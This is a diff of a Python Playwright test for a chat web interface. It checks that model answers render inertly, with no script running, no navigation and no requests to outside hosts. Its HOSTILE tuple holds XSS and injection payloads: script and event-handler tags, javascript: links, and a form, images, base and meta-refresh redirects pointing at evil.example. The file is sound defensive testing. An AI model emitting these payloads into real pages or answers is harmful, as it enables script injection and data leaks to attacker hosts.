@@ -29,13 +29,14 @@ HOSTILE = (
     '<script>window.pwned = 1</script><img src=x onerror="window.pwned = 1">',
     '<svg onload="window.pwned = 1"></svg><iframe srcdoc="<script>parent.pwned = 1</script>"></iframe>',
     '<a href="javascript:window.pwned = 1">click</a> [click](javascript:window.pwned=1)',
-    '<form action="https://evil.example"><input name="x"><button>Go</button></form>',
     '<custom-tag onclick="window.pwned = 1">tag</custom-tag><object data="https://evil.example/x"></object>',
     "<style>body { background: url(https://evil.example/style.png) }</style><base href='https://evil.example/'>",
     '![picture](https://evil.example/markdown.png) <img src="https://evil.example/tag.png">',
     "[ref]: https://evil.example/ref.png\n\n![ref]",
     '$$\\href{javascript:window.pwned=1}{x}$$ <meta http-equiv="refresh" content="0;url=https://evil.example">',
     "```mermaid\ngraph TD; A[<img src=x onerror=window.pwned=1>] --> B\n```",
+    # The last one: what is refused to leave keeps Playwright waiting before it types again.
+    '<form action="https://evil.example"><input name="x"><button>Go</button></form>',
 )
 
 
@@ -257,23 +258,24 @@ def test_thinking_is_folded(open_chat: Open, upstream: DemoOllama) -> None:
     expect(chat.page.get_by_role("log")).to_contain_text(re.compile(r"Thinking\s*\([\d.]+s\)"))
 
 
-@pytest.mark.parametrize("text", HOSTILE)
-def test_hostile_answer_is_inert(open_chat: Open, upstream: DemoOllama, text: str) -> None:
+def test_hostile_answers_are_inert(open_chat: Open, upstream: DemoOllama) -> None:
     """Nothing in an answer runs, leads to a script or loads anything from another host."""
-    upstream.answers["Why?"] = f"Begin\n\n{text}\n\nThe end."
     chat = open_chat()
-    chat.ask()
-    chat.shows("The end.")
-    chat.ends()
-    for link in chat.page.locator("#chat a").all():
-        assert re.match("https?:", link.get_attribute("href") or "http:")
     address = chat.page.url
-    for clickable in chat.page.locator("#chat .message-content :is(a, button, custom-tag)").all():
-        clickable.dispatch_event("click")
-    assert (True, address) == (chat.page.evaluate("window.pwned === undefined"), chat.page.url)
-    assert 0 == chat.page.locator("#chat :is(script, iframe, object, base, meta)").count()
-    reached = [request.url for request in chat.asked if request.failure is None]
-    assert [] == [url for url in reached if not url.startswith(("http://127.0.0.1", "data:", "blob:"))]
+    for number, text in enumerate(HOSTILE):
+        upstream.answers[f"Question {number}"] = f"Begin\n\n{text}\n\nThe end of {number}."
+        chat.ask(f"Question {number}")
+        chat.shows(f"The end of {number}.")
+        chat.ends()
+        for link in chat.page.locator("#chat a").all():
+            assert re.match("https?:", link.get_attribute("href") or "http:")
+        answer = chat.page.locator("#chat .bot-row").last
+        for clickable in answer.locator(".message-content :is(a, button, custom-tag)").all():
+            clickable.dispatch_event("click")
+        assert (True, address) == (chat.page.evaluate("window.pwned === undefined"), chat.page.url), text
+        assert 0 == chat.page.locator("#chat :is(script, iframe, object, base, meta)").count(), text
+        reached = [request.url for request in chat.asked if request.failure is None]
+        assert [] == [url for url in reached if not url.startswith(("http://127.0.0.1", "data:", "blob:"))], text
 
 
 @pytest.mark.parametrize("scheme", ["light", "dark"])
